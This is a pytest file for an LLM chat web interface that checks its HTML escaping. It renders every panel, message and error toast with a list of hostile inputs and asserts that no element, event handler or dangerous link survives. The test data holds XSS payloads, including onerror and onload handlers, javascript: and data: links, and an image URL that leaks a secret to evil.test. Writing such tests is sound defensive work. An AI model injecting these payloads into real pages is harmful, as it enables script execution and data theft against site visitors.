"""Every string from outside (a visitor, the model, an import, a file name) reaches the page through
web/formatting.py's `escape`: each panel's formatting function is rendered with hostile
strings in every field, Markdown is rendered to HTML as a browser's renderer would (raw HTML on,
every link allowed), and the parsed HTML has no element or attribute that came from the input."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from types import SimpleNamespace

import gradio as gr
import pytest
from markdown_it import MarkdownIt

from llmweb.chat.passages import Excerpt, Passage
from llmweb.errors import InputError
from llmweb.records import GenerationStats, MemorySnapshot, Source, TurnStats
from llmweb.store.models import Conversation, Fact, StoredTurn
from llmweb.web import formatting as f
from llmweb.web.panels.base import user_errors
from tests.web.test_ui import runtime  # noqa: F401 (a fixture)

HOSTILE = [
    '"><img src=x onerror=alert(1)>',
    "<script>alert(1)</script>",
    "' onmouseover='alert(1)' x='",
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
    "[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [v](VBScript:msgbox)",
    "<javascript:alert(1)> <http://x.test/?<img src=x onerror=alert(1)>>",
    "![pixel](http://evil.test/leak?q=secret) ![x](x onerror=alert(1))",
    "<!-- comment --><iframe src=//evil.test></iframe><style>*{display:none}</style>",
    "`<b>code</b>` ```\n<img src=x onerror=alert(1)>\n```",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
    "<details open ontoggle=alert(1)>",
    "</div></svg></title><img src=x onerror=alert(1)>",
]
BENIGN = "plain words"
MARKDOWN_TAGS = {"p", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br"}  # no a, no img
MARKDOWN_TAGS |= {"h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "file:")


class Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attrs: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attrs += [(tag, name, value or "") for name, value in attrs]

    handle_startendtag = handle_starttag


def elements(html_text: str) -> Elements:
    p = Elements()
    p.feed(html_text)
    p.close()
    return p


def markdown_html(text: str) -> str:
    md = MarkdownIt("commonmark", {"html": True}).enable("table")
    md.validateLink = lambda url: True  # the test, not markdown-it's own filter, must catch bad links
    return md.render(text)


def conversation(s: str) -> Conversation:
    mem = MemorySnapshot(rss_bytes=1 << 20, cuda_allocated_bytes=1, cuda_reserved_bytes=2, cuda_peak_bytes=2)
    stats = TurnStats(
        turn=1,
        gen=GenerationStats(prompt_tokens=90, generated_tokens=3, finish_reason=s, mem=mem),
        sections={s: 40, "system": 10, "reserve": 30},
        context_limit=100,
        dropped_turns=1,
        model=s,  # a models-folder file's name: anything a file may be called
    )
    source = Source(1, s, heading=s, score=0.5, snippet=s)
    turns = [
        StoredTurn(0, s, s, stats, [source, Source(2, s, page=3, kind="recall", snippet=s)]),
        StoredTurn(1, s, "", None, []),
    ]
    return Conversation(
        "c1", s, s, 1, turns, facts=[Fact(1, s, True, 0.0), Fact(2, s, False, 0.0)], versions={0: (1, 2)}
    )


def rendered(s: str) -> dict[str, str]:
    """Every formatting output filled with `s`, as the HTML a browser would get."""
    conv = conversation(s)
    tokens, memory = f.plot_frames(conv)
    docs = [SimpleNamespace(source=s, chunks=2, scope="yours"), SimpleNamespace(source=s, chunks=1, scope="shared")]
    reports = [SimpleNamespace(ok=True, describe=lambda: s), SimpleNamespace(ok=False, describe=lambda: s)]
    out = {
        "sections_html": f.sections_html(conv.turns[0].stats),
        "tokens_plot": f.line_chart_html(tokens, "tokens", "section", s, f.SECTION_COLOURS),
        "memory_plot": f.line_chart_html(memory.rename(columns={"MiB": s}), s, "measure", "Memory"),
        "stats_markdown": markdown_html(f.stats_markdown(conv.turns[0].stats, 100)),
        "summary_markdown": markdown_html(f.summary_markdown(conv)),
        "documents_markdown": markdown_html(f.documents_markdown(docs)),
        "ingest_markdown": markdown_html(f.ingest_markdown(reports)),
    }
    for i, message in enumerate(f.history_messages(conv)):
        out[f"message {i}"] = markdown_html(message["content"])
    out["sources_message"] = markdown_html(f.sources_message(conv.turns[0].sources)["content"])
    source, recalled = conv.turns[0].sources
    opened = Passage(source, Excerpt(s, 3, s), Excerpt(s, 2, s, cut=True), Excerpt(s, None, s), by_words=True)
    out["passage_html"] = f.passage_html(opened, source)
    out["passage_missing"] = f.passage_html(None, recalled)
    out["error toast"] = _toast(InputError(f"The file {s} is not allowed."))
    return out


def _toast(error: Exception) -> str:
    @user_errors
    def handler():
        raise error

    with pytest.raises(gr.Error) as e:
        handler()
    return e.value.message


ALLOWED = {
    name: (elements(html).tags, {(t, a) for t, a, _ in elements(html).attrs}) for name, html in rendered(BENIGN).items()
}


@pytest.mark.parametrize("hostile", HOSTILE)
def test_no_element_or_attribute_comes_from_hostile_text(hostile):
    for name, html in rendered(hostile).items():
        tags, attrs = ALLOWED[name]
        found = elements(html)
        assert found.tags <= tags | MARKDOWN_TAGS, (name, found.tags - tags, html)
        for tag, attr, value in found.attrs:
            assert not attr.startswith("on"), (name, attr, html)
            fence = (tag, attr) == ("code", "class") and value.startswith("language-")  # a code fence's language
            assert (tag, attr) in attrs or fence, (name, tag, attr, html)
            if attr in {"href", "src", "xlink:href", "action", "formaction"}:
                assert not value.strip().lower().startswith(BAD_SCHEMES), (name, value, html)
            if attr not in {"title", "aria-label"}:
                assert "alert" not in value and "evil" not in value, (name, attr, value, html)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_plain_labels_and_choices_keep_the_text_as_written(hostile):
    """Radio and dropdown choices are shown as text by Gradio (never as HTML): kept as written."""
    conv = conversation(hostile)
    assert f.fact_label(conv.facts[0]).endswith(hostile[:57]) or "…" in f.fact_label(conv.facts[0])
    hit = SimpleNamespace(title=hostile, idx=0, snippet="x", conversation_id="c")
    assert f.search_choices([hit])[0][0].startswith(hostile)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_an_edited_message_comes_back_as_the_visitor_wrote_it(hostile):
    """The edit control hands back the shown (escaped) text: `message_text` undoes the escape."""
    shown = f.history_messages(conversation(hostile))[0]["content"]
    assert f.message_text(shown) == hostile


def test_an_unexpected_error_shows_only_a_ref_and_logs_the_details(caplog):
    toast = _toast(FileNotFoundError("/srv/llmweb/secret/path.db"))
    assert "/srv" not in toast and "FileNotFoundError" not in toast
    assert toast.startswith("Something went wrong (ref ")
    ref = toast.split("ref ")[1].split(")")[0]
    assert any(ref in r.getMessage() and r.exc_info for r in caplog.records)
    assert "/srv/llmweb/secret/path.db" in caplog.text


def test_a_domain_error_shows_its_sentence():
    assert _toast(InputError("Pick a file first.")) == "Pick a file first."


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_status_line_escapes_what_a_server_said(hostile):
    """The status line may quote a remote engine's words (its model name, its error)."""
    from llmweb.web.panels.endpoints import StatusHandlers

    handlers = StatusHandlers.__new__(StatusHandlers)
    handlers.runtime = SimpleNamespace(status=f"Ready: remote engine · model {hostile}")
    found = elements(markdown_html(handlers.status_text()))
    assert found.tags <= MARKDOWN_TAGS and not found.attrs, (found.tags, found.attrs)


def test_the_issues_import_is_refused_and_its_toast_is_escaped(runtime, tmp_path):  # noqa: F811
    """The attack's carrier: an export whose stats name a section `"><img src=x onerror=…>`."""
    import json

    from llmweb.web.ui import Handlers
    from tests.web.test_ui import A_TOKEN, NOBODY

    h = Handlers(runtime)
    *_, final = h.chat.respond("Capital?", [], "", True, A_TOKEN, NOBODY)
    owner, conv = f"anon:{A_TOKEN}", final[0]
    doc = json.loads(runtime.store.export_json(owner, conv))
    doc["turns"][0]["stats"]["sections"] = {'"><img src=x onerror=alert(1)>': 5}
    path = tmp_path / "shared.json"
    path.write_text(json.dumps(doc))
    before = runtime.store.list_conversations(owner)
    with pytest.raises(gr.Error) as e:
        h.transfer.import_chat(str(path), A_TOKEN, NOBODY)
    assert "unknown prompt section" in e.value.message
    assert not {"img"} & elements(e.value.message).tags and "<" not in e.value.message
    assert runtime.store.list_conversations(owner) == before


def test_a_code_sample_in_a_message_reads_as_written():
    """In a message, code shows every character as the model wrote it (an entity would show as
    `&lt;` inside code); a fenced block is left exactly as written (a copy has no hidden
    characters); prose and inline code get zero-width spaces; no tag or link comes of either."""
    code = 'if a[0](x) < 3 && s == "<b>" & t[i]: print(f"{x}")  # [ref]: http://x.test'
    reply = f"Try:\n\n```python\n{code}\n```\n\nor `{code}`, then <b>bold</b> [link](http://x.test)"
    conv = Conversation("c", "t", "", 0, [StoredTurn(0, "q", reply, None, [])])
    shown = markdown_html(f.history_messages(conv)[1]["content"])

    class Code(HTMLParser):
        def __init__(self):
            super().__init__(convert_charrefs=True)
            self.depth, self.texts = 0, []

        def handle_starttag(self, tag, attrs):
            self.depth += tag == "code"

        def handle_endtag(self, tag):
            self.depth -= tag == "code"

        def handle_data(self, data):
            if self.depth:
                self.texts.append(data.replace("\u200b", ""))

    parsed = Code()
    parsed.feed(shown)
    assert [t.strip() for t in parsed.texts] == [code, code]
    message = f.history_messages(conv)[1]["content"]
    assert f"```python\n{code}\n```" in message, "a code block is kept as written: a copy has no hidden characters"
    assert "<\u200bb>bold" in message, "prose outside the code is still guarded"
    assert elements(shown).tags == {"p", "pre", "code"}, "no <b>, no <a>"


@pytest.mark.parametrize(
    "reply",
    [
        "- item\n  ```\n  x\n- next\n<img src=x onerror=alert(1)>\n  ```",  # a fence a list item closes
        "> ```\n<img src=x onerror=alert(1)>",  # a fence inside a quote
        "```a`b\n<img src=x onerror=alert(1)>\n```",  # not a fence: a backtick in the info string
        "    ```\n<img src=x onerror=alert(1)>",  # indented: code of another kind, or a list's
        "`a\nb` <img src=x onerror=alert(1)> `",  # a code span that starts on the line before
        "# `a\n<img src=x onerror=alert(1)> `",  # a heading's backtick is not the paragraph's
    ],
)
def test_code_that_markdown_may_read_otherwise_stays_guarded(reply):
    """Only a fence at the start of a line counts as code left as written; any code whose extent
    depends on the blocks around it is guarded like prose, so no tag comes of it."""
    conv = Conversation("c", "t", "", 0, [StoredTurn(0, "q", reply, None, [])])
    shown = markdown_html(f.history_messages(conv)[1]["content"])
    assert "img" not in elements(shown).tags


# ---- the message guard against marked's fence rules (Gradio 6.31's renderer; tests/web/test_renderer.py
# renders the same kinds of message in the real Chatbot). Each case: a message, and the lines (0-based,
# after Gradio's cleandoc) holding a `<` that marked shows as fenced code: only those may stay as written.
FENCES = {
    "backticks": ("```\n<a>\n```\n<b>", {1}),
    "tildes": ("~~~\n<a>\n~~~\n<b>", {1}),
    "```~ closes ```": ("```\n<a>\n```~\n<b>", {1}),
    "~~~` closes ~~~": ("~~~\n<a>\n~~~`  \n<b>", {1}),
    "a longer run closes": ("```\n<a>\n`````\n<b>", {1}),
    "a shorter run does not": ("````\n<a>\n```\n<b>\n````\n<c>", {1, 3}),
    "other characters after the run do not": ("```\n<a>\n``` x\n<b>\n```\n<c>", {1, 3}),
    "a tab after the run does not (cleandoc makes it spaces)": ("```\n<a>\n```\t\n<b>", {1}),
    "three spaces in": ("x\n   ```\n   <a>\n   ```\n<b>", {2}),
    "four spaces in: indented code, guarded": ("x\n    ```\n<a>\n```\n<b>", {4}),
    "closing three spaces in": ("```\n<a>\n   ```\n<b>", {1}),
    "closing four spaces in is content": ("```\n<a>\n    ```\n<b>", {1, 3}),
    "info string": ("```python x\n<a>\n```\n<b>", {1}),
    "a backtick in a backtick info string: no fence": ("```a`b\n<a>\n```\n<b>", {3}),
    "a backtick in a tilde info string": ("~~~a`b\n<a>\n~~~\n<b>", {1}),
    "unclosed": ("```\n<a>\n<b>", {1, 2}),
    "empty": ("```\n```\n<a>", set()),
    "U+2028 is no line break": ("a\u2028```\n<a>\n```\n<b>", {3}),
    "\\r is a line break": ("```\r<a>\r```\r<b>", {1}),
    "cleandoc dedents lines 2+": ("```\n    <a>\n    ```\n    <b>", {1}),
    "in a list item: guarded": ("- x\n  ```\n  <a>\n  ```\n```\n<b>\n```\n<c>", set()),
    "after a list, at the margin": ("- x\n\n```\n<a>\n```\n<b>", {3}),
    "in a quote: guarded": ("> ```\n> <a>\n```\n<b>\n```\n<c>", {3, 5}),
    "a $$ span hides an opening": ("$$\n```\n$$\n<a>", set()),
    "a $$ span hides a closer": ("```\n$$\n```\n$$\n<a>\n```\n<b>", {4}),
}


def _code_lines(text: str) -> set[int]:
    """The lines the guard left as written and that hold a `<` (every guarded `<` has a U+200B after it)."""
    return {i for i, line in enumerate(f.escape(text, message=True).split("\n")) if re.search("<(?!\u200b)", line)}


@pytest.mark.parametrize("name", list(FENCES))
def test_the_message_guard_leaves_exactly_markeds_fenced_code_as_written(name):
    text, code = FENCES[name]
    assert _code_lines(text) <= code, "guarded everywhere marked does not show code"
    assert _code_lines(text) == code or name.endswith("guarded"), "code as written where it surely is"


def test_a_mermaid_block_is_never_a_diagram_and_reads_back_as_written():
    text = '```mermaid\ngraph TD\nA["<img src=x>"]\n```\na```mermaid\n<b>\n```'
    shown = f.escape(text, message=True)
    assert "```mermaid\n" not in shown and shown.count("```mermaid\u200b") == 2
    assert f.message_text(shown) == text
